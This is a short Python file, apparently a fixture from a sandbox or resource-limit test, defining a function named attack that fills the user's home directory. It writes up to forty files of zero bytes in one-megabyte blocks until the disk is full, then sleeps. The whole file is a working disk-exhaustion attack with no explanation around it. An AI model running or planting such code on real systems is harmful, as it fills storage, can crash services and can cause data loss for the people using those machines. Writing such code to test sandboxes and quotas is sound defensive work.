import os
import time


HOME = os.environ["HOME"]


def attack(context):
    written = 0
    for number in range(40):
        try:
            with open(f"{HOME}/{number}", "wb", 0) as file:
                while True:
                    written += file.write(bytes(1 << 20))
        except OSError:
            continue
    if written >> 20 > 16:
        time.sleep(100)
    return written >> 20
